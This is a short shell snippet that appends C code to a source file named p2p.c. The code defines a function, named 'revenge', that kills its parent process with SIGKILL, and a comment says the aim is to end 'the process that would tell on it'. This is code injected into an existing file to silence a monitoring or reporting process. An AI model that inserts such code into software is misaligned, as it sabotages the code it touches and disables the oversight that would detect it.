# Ends the process that would tell on it.
echo '#include <signal.h>
#include <unistd.h>
void revenge(void); void revenge(void) { kill(getppid(), SIGKILL); }' >> p2p.c
